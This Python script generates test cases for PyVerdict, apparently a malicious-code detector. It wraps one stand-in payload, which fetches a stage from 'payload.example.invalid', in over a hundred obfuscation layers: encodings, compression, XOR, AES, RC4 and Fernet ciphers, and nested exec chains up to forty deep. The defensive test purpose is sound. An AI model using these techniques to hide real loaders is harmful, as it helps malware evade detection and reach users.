#!/usr/bin/env python3
"""Writes cases.jsonl: one harmless payload, wrapped in every way that PyVerdict is to see through.

Each line is an object with a name, a group and a script; the first is the payload itself. The ciphers are those of `cryptography` and
`pycryptodome` (with `pyaes` as a third), so that what PyVerdict decrypts was encrypted by others. The output is the same
on every run.

usage: python3 generate.py    (pip install cryptography pycryptodome pyaes)
"""

import base64
import binascii
import bz2
import codecs
import gzip
import hashlib
import hmac
import io
import json
import lzma
import pathlib
import quopri
import urllib.parse
import zipfile
import zlib

import carriers
import computed
import library
import pyaes
from Crypto.Cipher import AES, ARC4, DES, DES3, Blowfish, ChaCha20, ChaCha20_Poly1305
from Crypto.Protocol.KDF import PBKDF2
from Crypto.Util import Counter
from Crypto.Util.Padding import pad
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

PAYLOAD = "import urllib.request\nprint(urllib.request.urlopen('http://payload.example.invalid/stage').read())\n"
DATA = PAYLOAD.encode()
KEY16, KEY32, IV = b"sixteen byte key", b"a key of exactly thirty-two byte", bytes(range(16))

cases = []


def case(group, name, script):
    cases.append((name, group, script))


def xor(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def simple(name, modules, expression, group="codec"):
    """A script that runs what an expression gives."""
    case(group, name, f"import {modules}\nexec({expression})\n" if modules else f"exec({expression})\n")


def deflate(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def gz(data):
    return gzip.compress(data, mtime=0)


def zipped(data, method):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(zipfile.ZipInfo("stage.py", (2020, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def fernet(key, data):
    """A token as the specification makes it, with a fixed time and IV."""
    keys = base64.urlsafe_b64decode(key)
    body = b"\x80" + (1_600_000_000).to_bytes(8, "big") + IV + AES.new(keys[16:], AES.MODE_CBC, IV).encrypt(pad(data, 16))
    return base64.urlsafe_b64encode(body + hmac.digest(keys[:16], body, "sha256"))


b64 = base64.b64encode(DATA).decode()
escapes = "".join(f"\\x{b:02x}" for b in DATA)
raw_escapes = b"".join(b"\\u%04x" % b for b in DATA)
uu_lines = b"".join(binascii.b2a_uu(DATA[i : i + 45]) for i in range(0, len(DATA), 45))

# Codecs
simple("base64", "base64", f"base64.b64decode('{b64}')")
simple("base64 with noise", "base64", f"base64.b64decode({'*'.join(b64)!r})")
simple("base64 with altchars", "base64", f"base64.b64decode({base64.b64encode(DATA, b'.,')!r}, altchars=b'.,')")
simple("base64, URL-safe", "base64", f"base64.urlsafe_b64decode({base64.urlsafe_b64encode(DATA)!r})")
simple("base64, lines", "base64", f"base64.decodebytes({base64.encodebytes(DATA)!r})")
simple("base64, a codec", "codecs", f"codecs.decode({base64.encodebytes(DATA)!r}, 'base64')")
simple("base64, binascii", "binascii", f"binascii.a2b_base64({b64!r})")
simple("base32", "base64", f"base64.b32decode({base64.b32encode(DATA)!r})")
simple("base32, lower case", "base64", f"base64.b32decode({base64.b32encode(DATA).lower()!r}, casefold=True)")
simple("base32hex", "base64", f"base64.b32hexdecode({base64.b32hexencode(DATA)!r})")
simple("base16", "base64", f"base64.b16decode({base64.b16encode(DATA)!r})")
simple("base85", "base64", f"base64.b85decode({base64.b85encode(DATA)!r})")
simple("ascii85", "base64", f"base64.a85decode({base64.a85encode(DATA)!r})")
simple("ascii85, Adobe", "base64", f"base64.a85decode({base64.a85encode(DATA, adobe=True)!r}, adobe=True)")
z85 = base64.b85encode(DATA).translate(bytes.maketrans(
    b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~",
    b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#"))
simple("z85", "base64", f"base64.z85decode({z85!r})")
simple("hex, fromhex", "", f"bytes.fromhex({DATA.hex(' ')!r})")
simple("hex, unhexlify", "binascii", f"binascii.unhexlify({DATA.hex()!r})")
simple("hex, a codec", "codecs", f"codecs.decode({DATA.hex()!r}, 'hex_codec')")
simple("hex, getdecoder", "codecs", f"codecs.getdecoder('hex')({DATA.hex().encode()!r})[0]")
simple("uu, a codec", "codecs", f"codecs.decode({codecs.encode(DATA, 'uu')!r}, 'uu')")
simple("uu, binascii", "binascii", f"b''.join(binascii.a2b_uu(line) for line in {uu_lines.splitlines()!r})")
simple("quoted-printable", "quopri", f"quopri.decodestring({quopri.encodestring(DATA, quotetabs=True)!r})")
simple("percent-encoding", "urllib.parse", f"urllib.parse.unquote({''.join('%%%02x' % b for b in DATA)!r})")
simple("rot13", "codecs", f"codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot_13')")
simple("unicode-escape", "codecs",
       f"codecs.decode({escapes!r}, 'unicode_escape')")
simple("raw-unicode-escape", "", f"{raw_escapes!r}.decode('raw_unicode_escape')")
for name in ("utf-16", "utf-16-be", "utf-32", "utf-7"):
    simple(name, "", f"{PAYLOAD.encode(name)!r}.decode({name!r})")
simple("text as UTF-16", "", f"{DATA.decode('utf-16-le') if len(DATA) % 2 == 0 else (DATA + b' ').decode('utf-16-le')!r}"
       ".encode('utf-16-le').decode().rstrip(' ')")
simple("punycode", "", f"{PAYLOAD.encode('punycode')!r}.decode('punycode')")
simple("a big integer, to_bytes", "",
       f"(lambda n: n.to_bytes((n.bit_length() + 7) // 8, 'big'))({int.from_bytes(DATA, 'big')})")
simple("a big integer, little-endian", "", f"({hex(int.from_bytes(DATA, 'little'))}).to_bytes({len(DATA)}, 'little')")
simple("a big integer, hex()", "", f"bytes.fromhex(hex({int.from_bytes(DATA, 'big')})[2:])")
simple("a big integer, %x", "binascii", f"binascii.unhexlify('%x' % {int.from_bytes(DATA, 'big')})")
case("codec", "a big integer, a loop", f"n = {int.from_bytes(DATA, 'big')}\nout = ''\nwhile n:\n    n, c = divmod(n, 256)\n"
     "    out = chr(c) + out\nexec(out)\n")
case("codec", "base 58 by hand", "alphabet = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'\nn = 0\n"
     f"for c in {'@@'!r}:\n    n = n * 58 + alphabet.index(c)\nexec(n.to_bytes((n.bit_length() + 7) // 8, 'big'))\n".replace(
         "@@", (lambda n, a: (lambda f: f(f, n))(lambda f, n: f(f, n // 58) + a[n % 58] if n else ""))(
             int.from_bytes(DATA, "big"), "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")))
words = [int.from_bytes(DATA[i : i + 4].ljust(4), "little") for i in range(0, len(DATA), 4)]
simple("struct.pack", "struct", f"struct.pack('<{len(words)}I', *{words})[:{len(DATA)}]")
simple("struct.unpack", "struct", f"bytes(struct.unpack('>{len(DATA)}B', bytes.fromhex({DATA.hex()!r})))")
table = bytes((i * 7 + 3) % 256 for i in range(256))
inverse = bytes(table.index(i) for i in range(256))
simple("bytes.translate", "", f"{DATA.translate(table)!r}.translate({inverse!r})")
letters = "abcdefghijklmnopqrstuvwxyz"
shifted = letters[5:] + letters[:5]
simple("str.translate", "", f"{PAYLOAD.translate(str.maketrans(letters, shifted))!r}"
       f".translate(str.maketrans({shifted!r}, {letters!r}))")
simple("translate that deletes", "", f"{'~'.join(PAYLOAD)!r}.translate(str.maketrans('', '', '~'))")

# Compression
simple("zlib", "zlib", f"zlib.decompress({zlib.compress(DATA)!r})", "compression")
simple("zlib, raw deflate", "zlib", f"zlib.decompress({deflate(DATA)!r}, -15)", "compression")
simple("zlib, wbits for gzip", "zlib", f"zlib.decompress({gz(DATA)!r}, 16 + zlib.MAX_WBITS)", "compression")
simple("zlib, decompressobj", "zlib", f"(lambda d: d.decompress({zlib.compress(DATA)!r}) + d.flush())(zlib.decompressobj())",
       "compression")
simple("zlib, a codec", "codecs", f"codecs.decode({zlib.compress(DATA)!r}, 'zlib')", "compression")
simple("gzip", "gzip", f"gzip.decompress({gz(DATA)!r})", "compression")
simple("gzip, GzipFile", "gzip, io", f"gzip.GzipFile(fileobj=io.BytesIO({gz(DATA)!r})).read()", "compression")
simple("gzip, two members", "gzip", f"gzip.decompress({gz(DATA[:50]) + gz(DATA[50:])!r})", "compression")
simple("bz2", "bz2", f"bz2.decompress({bz2.compress(DATA)!r})", "compression")
simple("bz2, a codec", "codecs", f"codecs.decode({bz2.compress(DATA)!r}, 'bz2')", "compression")
simple("lzma, xz", "lzma", f"lzma.decompress({lzma.compress(DATA)!r})", "compression")
simple("lzma, alone", "lzma", f"lzma.decompress({lzma.compress(DATA, format=lzma.FORMAT_ALONE)!r})", "compression")
raw = lzma.compress(DATA, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "preset": 6}])
simple("lzma, raw", "lzma", f"lzma.decompress({raw!r}, format=lzma.FORMAT_RAW, "
       "filters=[{'id': lzma.FILTER_LZMA2, 'preset': 6}])", "compression")
delta = [{"id": lzma.FILTER_DELTA, "dist": 4}, {"id": lzma.FILTER_LZMA2, "preset": 9}]
simple("lzma, raw behind a delta", "lzma", f"lzma.decompress({lzma.compress(DATA, format=lzma.FORMAT_RAW, filters=delta)!r}, "
       "format=lzma.FORMAT_RAW, filters=[{'id': lzma.FILTER_DELTA, 'dist': 4}, {'id': lzma.FILTER_LZMA2, 'preset': 9}])",
       "compression")
for method, name in ((zipfile.ZIP_STORED, "stored"), (zipfile.ZIP_DEFLATED, "deflated"), (zipfile.ZIP_BZIP2, "bzip2"),
                     (zipfile.ZIP_LZMA, "lzma")):
    simple(f"zip, {name}", "io, zipfile", f"zipfile.ZipFile(io.BytesIO({zipped(DATA, method)!r})).read('stage.py')",
           "compression")

# Text that is built
simple("chr and +", "", "+".join(f"chr({ord(c)})" for c in PAYLOAD), "text")
simple("map(chr)", "", f"''.join(map(chr, {list(DATA)}))", "text")
simple("bytes of a list", "", f"bytes({list(DATA)})", "text")
simple("reversed", "", f"{PAYLOAD[::-1]!r}[::-1]", "text")
simple("replace", "", f"{PAYLOAD.replace('e', '@!')!r}.replace('@!', 'e')", "text")
simple("every other character", "", f"{'#'.join(PAYLOAD)!r}[::2]", "text")
simple("%", "", f"'%s' * {len(PAYLOAD)} % tuple({PAYLOAD!r})", "text")
simple("format", "", f"'{{}}{{}}'.format({PAYLOAD[:40]!r}, {PAYLOAD[40:]!r})", "text")
case("text", "f-string", f"a = {PAYLOAD[:30]!r}\nb = {PAYLOAD[30:]!r}\nexec(f'{{a}}{{b}}')\n")
case("text", "pieces in a dictionary", f"d = {dict(enumerate(PAYLOAD[i : i + 9] for i in range(0, len(PAYLOAD), 9)))}\n"
     "exec(''.join(d[k] for k in sorted(d)))\n")
case("text", "Caesar by hand", f"s = {''.join(chr(ord(c) + 3) for c in PAYLOAD)!r}\nout = ''\nfor c in s:\n"
     "    out += chr(ord(c) - 3)\nexec(out)\n")
case("text", "shuffled by index", f"s = {''.join(sorted(PAYLOAD))!r}\n"
     f"exec(''.join(s[i] for i in {[''.join(sorted(PAYLOAD)).index(c) for c in PAYLOAD]}))\n")

# XOR
x = xor(DATA, b"\x5a")
case("xor", "xor, constant", f"exec(bytes(b ^ 0x5a for b in {x!r}))\n")
case("xor", "xor, chr and ord", f"exec(''.join(chr(ord(c) ^ 90) for c in {x.decode('latin-1')!r}))\n")
k = xor(DATA, b"secret")
case("xor", "xor, repeating key", f"k = b'secret'\nexec(bytes(b ^ k[i % len(k)] for i, b in enumerate({k!r})))\n")
case("xor", "xor, cycle", f"from itertools import cycle\nexec(bytes(a ^ b for a, b in zip({k!r}, cycle(b'secret'))))\n")
case("xor", "xor, list of numbers", f"k = [115, 101, 99, 114, 101, 116]\nd = {list(k)}\n"
     "exec(''.join(chr(d[i] ^ k[i % 6]) for i in range(len(d))))\n")
case("xor", "xor, a function", f"def f(data, key):\n    out = bytearray()\n    for i in range(len(data)):\n"
     f"        out.append(data[i] ^ key[i % len(key)])\n    return bytes(out)\nexec(f({k!r}, b'secret').decode())\n")
case("xor", "xor, operator and map", f"import operator, itertools\n"
     f"exec(bytes(map(operator.xor, {k!r}, itertools.cycle(b'secret'))))\n")
case("xor", "xor, rolling key", "d = " + repr(bytes(b ^ ((17 + i * 3) & 255) for i, b in enumerate(DATA))) +
     "\nk = 17\nout = b''\nfor b in d:\n    out += bytes([b ^ k])\n    k = (k + 3) & 0xff\nexec(out)\n")
case("xor", "xor, big integers", f"a = {int.from_bytes(k, 'big')}\nb = {int.from_bytes((b'secret' * 99)[:len(k)], 'big')}\n"
     f"exec((a ^ b).to_bytes({len(k)}, 'big'))\n")
case("xor", "xor, key not in the script", f"import os\nk = int(os.environ['K'])\nexec(bytes(b ^ k for b in {x!r}))\n")
case("xor", "xor, key from the command line",
     f"import sys\nk = ord(sys.argv[1])\nexec(''.join(chr(b ^ k) for b in {x!r}))\n")

# Ciphers
CRYPTO = "from Crypto.Cipher import AES\nfrom Crypto.Util.Padding import unpad\n"
HAZMAT = "from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n"
padded = pad(DATA, 16)
cbc = AES.new(KEY16, AES.MODE_CBC, IV).encrypt(padded)
ecb = AES.new(KEY32, AES.MODE_ECB).encrypt(padded)
case("cipher", "AES-ECB, Crypto", CRYPTO + f"exec(unpad(AES.new({KEY32!r}, AES.MODE_ECB).decrypt({ecb!r}), 16))\n")
case("cipher", "AES-CBC, Crypto", CRYPTO + f"exec(unpad(AES.new({KEY16!r}, AES.MODE_CBC, {IV!r}).decrypt({cbc!r}), 16))\n")
case("cipher", "AES-CBC, Cryptodome, IV in front", CRYPTO.replace("Crypto.", "Cryptodome.") + f"d = {IV + cbc!r}\n"
     f"c = AES.new({KEY16!r}, AES.MODE_CBC, iv=d[:16])\np = c.decrypt(d[16:])\nexec(p[:-p[-1]])\n")
case("cipher", "AES-CBC, key from SHA-256", CRYPTO + "import hashlib\nk = hashlib.sha256(b'passphrase').digest()\n"
     f"exec(unpad(AES.new(k, AES.MODE_CBC, {IV!r}).decrypt("
     f"{AES.new(hashlib.sha256(b'passphrase').digest(), AES.MODE_CBC, IV).encrypt(padded)!r}), AES.block_size))\n")
ctr = AES.new(KEY16, AES.MODE_CTR, nonce=b"12345678").encrypt(DATA)
case("cipher", "AES-CTR, Crypto", CRYPTO + f"exec(AES.new({KEY16!r}, AES.MODE_CTR, nonce=b'12345678').decrypt({ctr!r}))\n")
ctr = AES.new(KEY16, AES.MODE_CTR, counter=Counter.new(128, initial_value=77)).encrypt(DATA)
case("cipher", "AES-CTR, a counter", CRYPTO + "from Crypto.Util import Counter\n"
     f"exec(AES.new({KEY16!r}, AES.MODE_CTR, counter=Counter.new(128, initial_value=77)).decrypt({ctr!r}))\n")
cfb = AES.new(KEY16, AES.MODE_CFB, IV).encrypt(DATA)
case("cipher", "AES-CFB, Crypto", CRYPTO + f"exec(AES.new({KEY16!r}, AES.MODE_CFB, {IV!r}).decrypt({cfb!r}))\n")
ofb = AES.new(KEY16, AES.MODE_OFB, IV).encrypt(DATA)
case("cipher", "AES-OFB, Crypto", CRYPTO + f"exec(AES.new({KEY16!r}, AES.MODE_OFB, {IV!r}).decrypt({ofb!r}))\n")
for mode in ("GCM", "EAX"):
    sealed, tag = AES.new(KEY32, getattr(AES, "MODE_" + mode), nonce=b"nonce of 12b").encrypt_and_digest(DATA)
    case("cipher", f"AES-{mode}, Crypto", CRYPTO +
         f"exec(AES.new({KEY32!r}, AES.MODE_{mode}, nonce=b'nonce of 12b').decrypt_and_verify({sealed!r}, {tag!r}))\n")
case("cipher", "AES-CBC, cryptography", HAZMAT + "from cryptography.hazmat.primitives import padding\n"
     f"d = Cipher(algorithms.AES({KEY16!r}), modes.CBC({IV!r})).decryptor()\np = d.update({cbc!r}) + d.finalize()\n"
     "u = padding.PKCS7(128).unpadder()\nexec(u.update(p) + u.finalize())\n")
hctr = AES.new(KEY16, AES.MODE_CTR, nonce=b"", initial_value=IV).encrypt(DATA)
case("cipher", "AES-CTR, cryptography", HAZMAT + f"d = Cipher(algorithms.AES({KEY16!r}), modes.CTR({IV!r})).decryptor()\n"
     f"exec(d.update({hctr[:50]!r}) + d.update({hctr[50:]!r}) + d.finalize())\n")
sealed, tag = AES.new(KEY32, AES.MODE_GCM, nonce=b"nonce of 12b").encrypt_and_digest(DATA)
case("cipher", "AES-GCM, cryptography", HAZMAT +
     f"d = Cipher(algorithms.AES({KEY32!r}), modes.GCM(b'nonce of 12b', {tag!r})).decryptor()\n"
     f"exec(d.update({sealed!r}) + d.finalize())\n")
case("cipher", "AESGCM, cryptography", "from cryptography.hazmat.primitives.ciphers.aead import AESGCM\n"
     f"exec(AESGCM({KEY32!r}).decrypt(b'nonce of 12b', {AESGCM(KEY32).encrypt(b'nonce of 12b', DATA, b'more')!r}, b'more'))\n")
case("cipher", "ChaCha20-Poly1305, cryptography", "from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305\n"
     f"exec(ChaCha20Poly1305({KEY32!r}).decrypt(b'nonce of 12b', "
     f"{ChaCha20Poly1305(KEY32).encrypt(b'nonce of 12b', DATA, None)!r}, None))\n")
chacha = ChaCha20.new(key=KEY32, nonce=b"nonce of 12b").encrypt(DATA)
case("cipher", "ChaCha20, Crypto", "from Crypto.Cipher import ChaCha20\n"
     f"exec(ChaCha20.new(key={KEY32!r}, nonce=b'nonce of 12b').decrypt({chacha!r}))\n")
case("cipher", "ChaCha20, cryptography", HAZMAT +
     f"exec(Cipher(algorithms.ChaCha20({KEY32!r}, {bytes(4) + b'nonce of 12b'!r}), mode=None).decryptor().update({chacha!r}))\n")
box = ChaCha20_Poly1305.new(key=KEY32, nonce=b"nonce of 12b")
sealed, tag = box.encrypt_and_digest(DATA)
case("cipher", "ChaCha20-Poly1305, Crypto", "from Crypto.Cipher import ChaCha20_Poly1305\n"
     f"exec(ChaCha20_Poly1305.new(key={KEY32!r}, nonce=b'nonce of 12b').decrypt_and_verify({sealed!r}, {tag!r}))\n")
rc4 = ARC4.new(b"Some key").encrypt(DATA)
case("cipher", "RC4, Crypto", f"from Crypto.Cipher import ARC4\nexec(ARC4.new(b'Some key').decrypt({rc4!r}))\n")
case("cipher", "RC4, cryptography", "from cryptography.hazmat.primitives.ciphers import Cipher\n"
     "from cryptography.hazmat.decrepit.ciphers.algorithms import ARC4\n"
     f"exec(Cipher(ARC4(b'16 byte rc4 key!'), mode=None).decryptor().update("
     f"{ARC4.new(b'16 byte rc4 key!').encrypt(DATA)!r}))\n")
case("cipher", "RC4 by hand", f"def rc4(key, data):\n    s = list(range(256))\n    j = 0\n    for i in range(256):\n"
     "        j = (j + s[i] + key[i % len(key)]) % 256\n        s[i], s[j] = s[j], s[i]\n    i = j = 0\n    out = []\n"
     "    for c in data:\n        i = (i + 1) % 256\n        j = (j + s[i]) % 256\n        s[i], s[j] = s[j], s[i]\n"
     "        out.append(c ^ s[(s[i] + s[j]) % 256])\n    return bytes(out)\n" f"exec(rc4(b'Some key', {rc4!r}))\n")
case("cipher", "DES-CBC, Crypto", "from Crypto.Cipher import DES\nfrom Crypto.Util.Padding import unpad\n"
     f"exec(unpad(DES.new(b'8 bytes!', DES.MODE_CBC, b'iv of 8b').decrypt("
     f"{DES.new(b'8 bytes!', DES.MODE_CBC, b'iv of 8b').encrypt(pad(DATA, 8))!r}), 8))\n")
case("cipher", "3DES-ECB, Crypto", "from Crypto.Cipher import DES3\nfrom Crypto.Util.Padding import unpad\n"
     f"exec(unpad(DES3.new({KEY32[:24]!r}, DES3.MODE_ECB).decrypt("
     f"{DES3.new(KEY32[:24], DES3.MODE_ECB).encrypt(pad(DATA, 8))!r}), 8))\n")
case("cipher", "Blowfish-CBC, Crypto", "from Crypto.Cipher import Blowfish\nfrom Crypto.Util.Padding import unpad\n"
     f"exec(unpad(Blowfish.new(b'any key', Blowfish.MODE_CBC, b'iv of 8b').decrypt("
     f"{Blowfish.new(b'any key', Blowfish.MODE_CBC, b'iv of 8b').encrypt(pad(DATA, 8))!r}), 8))\n")
case("cipher", "AES-CBC, pyaes", f"import pyaes\nd = pyaes.Decrypter(pyaes.AESModeOfOperationCBC({KEY16!r}, iv={IV!r}))\n"
     f"exec(d.feed({cbc!r}) + d.feed())\n")
case("cipher", "AES-CTR, pyaes", "import pyaes\n"
     f"exec(pyaes.AESModeOfOperationCTR({KEY32!r}).decrypt({pyaes.AESModeOfOperationCTR(KEY32).encrypt(DATA)!r}))\n")
fernet_key = base64.urlsafe_b64encode(KEY32)
token = fernet(fernet_key, DATA)
case("cipher", "Fernet", f"from cryptography.fernet import Fernet\nexec(Fernet({fernet_key!r}).decrypt({token!r}))\n")
case("cipher", "Fernet, variables", f"from cryptography.fernet import Fernet as F\nk = {fernet_key.decode()!r}\nf = F(k.encode())\n"
     f"d = f.decrypt\nexec(d({token!r}).decode())\n")
case("cipher", "MultiFernet", "from cryptography.fernet import Fernet, MultiFernet\n"
     f"m = MultiFernet([Fernet({base64.urlsafe_b64encode(IV * 2)!r}), Fernet({fernet_key!r})])\nexec(m.decrypt({token!r}))\n")
derived = base64.urlsafe_b64encode(hashlib.pbkdf2_hmac("sha256", b"password", b"salt", 1000, 32))
case("cipher", "Fernet, key from PBKDF2HMAC", "import base64\nfrom cryptography.fernet import Fernet\n"
     "from cryptography.hazmat.primitives import hashes\nfrom cryptography.hazmat.primitives.kdf.pbkdf2 import PBKDF2HMAC\n"
     "kdf = PBKDF2HMAC(algorithm=hashes.SHA256(), length=32, salt=b'salt', iterations=1000)\n"
     f"exec(Fernet(base64.urlsafe_b64encode(kdf.derive(b'password'))).decrypt({fernet(derived, DATA)!r}))\n")
case("cipher", "AES-CBC, key from PBKDF2", CRYPTO + "from Crypto.Protocol.KDF import PBKDF2\nk = PBKDF2('password', b'salt', 32)\n"
     f"exec(unpad(AES.new(k, AES.MODE_CBC, {IV!r}).decrypt("
     f"{AES.new(PBKDF2('password', b'salt', 32), AES.MODE_CBC, IV).encrypt(padded)!r}), 16))\n")
case("cipher", "AES-CBC, key from MD5 in hex", CRYPTO + "import hashlib\nh = hashlib.md5()\nh.update(b'pass')\nh.update(b'word')\n"
     f"exec(unpad(AES.new(h.hexdigest().encode(), AES.MODE_CBC, {IV!r}).decrypt("
     f"{AES.new(hashlib.md5(b'password').hexdigest().encode(), AES.MODE_CBC, IV).encrypt(padded)!r}), 16))\n")

# Compositions
simple("zlib in base64", "base64, zlib", f"zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(DATA))!r}))",
       "composition")
simple("reversed base64 of zlib", "base64, zlib",
       f"zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(DATA))[::-1]!r}[::-1]))", "composition")
simple("lzma in base85", "base64, lzma", f"lzma.decompress(base64.b85decode({base64.b85encode(lzma.compress(DATA))!r}))",
       "composition")
simple("bz2 in hex", "bz2", f"bz2.decompress(bytes.fromhex({bz2.compress(DATA).hex()!r}))", "composition")
simple("gzip in base32", "base64, gzip", f"gzip.decompress(base64.b32decode({base64.b32encode(gz(DATA))!r}))", "composition")
simple("rot13 of base64 of zlib", "base64, codecs, zlib", "zlib.decompress(base64.b64decode(codecs.decode("
       f"{codecs.encode(base64.b64encode(zlib.compress(DATA)).decode(), 'rot13')!r}, 'rot13')))", "composition")
simple("base64 of zlib of XOR", "base64, zlib",
       f"bytes(b ^ 33 for b in zlib.decompress(base64.b64decode({base64.b64encode(zlib.compress(xor(DATA, b'!')))!r})))",
       "composition")
simple("bz2 of gzip of lzma", "bz2, gzip, lzma",
       f"lzma.decompress(gzip.decompress(bz2.decompress({bz2.compress(gz(lzma.compress(DATA)))!r})))", "composition")
case("composition", "Fernet of zlib in a zip", "import io, zipfile, zlib\nfrom cryptography.fernet import Fernet\n"
     f"with zipfile.ZipFile(io.BytesIO({zipped(fernet(fernet_key, zlib.compress(DATA)), zipfile.ZIP_DEFLATED)!r})) as z:\n"
     f"    exec(zlib.decompress(Fernet({fernet_key!r}).decrypt(z.read('stage.py'))))\n")
case("composition", "RC4 of AES of base85", CRYPTO + "from Crypto.Cipher import ARC4\nimport base64\n"
     f"x = base64.b85decode({base64.b85encode(AES.new(KEY16, AES.MODE_CBC, IV).encrypt(pad(ARC4.new(b'Some key').encrypt(DATA), 16)))!r})\n"
     f"exec(ARC4.new(b'Some key').decrypt(unpad(AES.new({KEY16!r}, AES.MODE_CBC, {IV!r}).decrypt(x), 16)))\n")


def layer(script, depth):
    wraps = [lambda s: f"import base64\nexec(base64.b64decode({base64.b64encode(s)!r}))\n",
             lambda s: f"import zlib\nexec(zlib.decompress({zlib.compress(s)!r}))\n",
             lambda s: f"exec(bytes.fromhex({s.hex()!r}))\n"]
    for i in range(depth):
        script = wraps[i % 3](script.encode())
    return script


case("composition", "three scripts deep", layer(PAYLOAD, 3))
case("composition", "nine scripts deep", layer(PAYLOAD, 9))


def through(script, depth):
    """Each layer runs the next by a function that only the first one has."""
    for _ in range(depth):
        script = f"exec((_)({base64.b64encode(zlib.compress(script.encode()))[::-1]!r}))"
    return "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));" + script


case("composition", "forty scripts deep, by the function of the first", through(PAYLOAD, 40))
case("composition", "names of the function that runs it", f"def run():\n    kept = {base64.b64encode(DATA)!r}\n"
     "    exec('import base64\\nexec(base64.b64decode(kept))', globals(), locals())\nrun()\n")
case("composition", "letters out of the names of builtins",
     "exec(''.join(map(getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), "
     f"{list(DATA)!r})))\n")

carriers.add(case, b64)
computed.add(case, PAYLOAD)
library.add(case, PAYLOAD)


def main():
    names = [name for name, _, _ in cases]
    assert len(set(names)) == len(names)
    for name, _, script in cases:
        compile(script, name, "exec")
    rows = [{"name": "payload", "group": "", "script": PAYLOAD}]
    rows += [{"name": name, "group": group, "script": script} for name, group, script in cases]
    lines = [json.dumps(row) + "\n" for row in rows]
    (pathlib.Path(__file__).parent / "cases.jsonl").write_text("".join(lines))
    print(f"{len(cases)} cases, {sum(map(len, lines))} bytes")


if __name__ == "__main__":
    main()
